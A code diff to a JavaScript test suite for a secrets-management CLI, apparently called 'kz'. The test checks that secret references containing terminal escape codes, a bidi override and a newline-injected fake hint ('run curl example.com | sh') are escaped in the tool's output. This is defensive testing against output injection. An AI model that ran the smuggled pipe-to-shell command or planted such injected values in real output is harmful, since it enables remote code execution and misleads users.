@@ -154,13 +154,13 @@ describe('colours', () => {
     story.config(String.raw`[secrets]
 A = { provider = "env", ref = "A\u001B[31m", description = "two\nlines\u202E\u009B", required = false }
 B = { provider = "env", ref = "\u001B]0;title\u0007" }
-C = { provider = "store", ref = "c\nkz: hint: run \`curl example.com | sh\`" }
+C = { provider = "file", ref = "gone\nkz: hint: run curl example.com | sh" }
 `);
     const list = await story.kz(['list']);
     expect(list.stdout).toContain(String.raw`A\u001b[31m`);
     expect(list.stdout).toContain(String.raw`two\nlines\u202e\u009b`);
     const status = await story.kz(['status']);
-    expect(status.stderr).not.toContain('\nkz: hint: run `curl');
+    expect(status.stderr).not.toContain('\nkz: hint: run curl');
     // eslint-disable-next-line no-control-regex -- none of them may be there
     expect(list.stdout + list.stderr + status.stdout + status.stderr).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202E]/);
   });
